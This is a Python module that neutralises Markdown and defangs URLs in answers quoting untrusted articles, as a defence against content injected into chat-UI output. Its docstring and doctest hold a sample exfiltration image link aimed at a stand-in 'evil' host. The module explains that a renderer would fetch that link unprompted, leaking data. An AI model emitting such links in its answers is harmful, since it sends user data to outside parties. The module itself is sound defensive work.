r"""Answer text made inert for Markdown renderers (chat UIs behind the OpenAI-compatible route).

The answer quotes articles, and an article is untrusted input: `![x](http://evil/leak?d=…)`
would make the reader's client fetch that URL by itself, and `[click](http://evil)` or
`<http://evil>` would show as a link. Backslash escapes stop each construct (CommonMark lets
any ASCII punctuation be escaped; a renderer shows the bare character), URL schemes are
defanged against autolinking, and nothing else changes: citation markers like `[1]` and
emphasis stay as they are, and plain text without such constructs is returned unchanged.

    >>> inert_markdown("See ![x](http://evil.io/leak?d=1) [1].")
    'See !\\[x]\\(http[:]//evil.io/leak?d=1) [1].'
"""

from __future__ import annotations

import re

# `](` ends the text of an inline link or image; `!\[` too so that an image's `!` stays
# visible as text. `[1][2]` is left alone: it links only through a definition, escaped below.
_LINK_TAIL = re.compile(r"\](?=\s*\()")
_LINK_HEAD = re.compile(r"!?\[(?=[^\]]*\]\s*\()")
# `[label]: url` defines a reference that any `[label]` would then link, also inside a quote
# or list item; escaped wherever it appears (mid-sentence it is plain text either way).
_REFERENCE = re.compile(r"\[(?=(?:[^\]\\]|\\.)*\]:)", re.S)
# `<http://…>`, `<a href=…>`, `<img …>`, `<!-- … -->`: autolinks and raw HTML.
_ANGLE = re.compile(r"<(?=[A-Za-z/!?])")
# Bare URLs, which GitHub-flavoured renderers link by themselves.
_SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*):(?=//)")
_MAILTO = re.compile(r"(?i)\bmailto:")
_WWW = re.compile(r"(?i)\b(www)\.(?=\w)")


def defang_urls(text: str) -> str:
    """`http://x.io` → `http[:]//x.io`, `www.x.io` → `www[.]x.io`: readable, not linkable."""
    text = _SCHEME.sub(r"\1[:]", text)
    text = _MAILTO.sub("mailto[:]", text)
    return _WWW.sub(r"\1[.]", text)


def inert_markdown(text: str) -> str:
    """`text` with Markdown images, links, link references, autolinks and raw HTML escaped."""
    text = _REFERENCE.sub(r"\\[", text)
    text = _LINK_HEAD.sub(lambda m: m.group(0)[:-1] + "\\[", text)
    text = _LINK_TAIL.sub("]\\\\", text)
    text = _ANGLE.sub(r"\\<", text)
    return defang_urls(text)
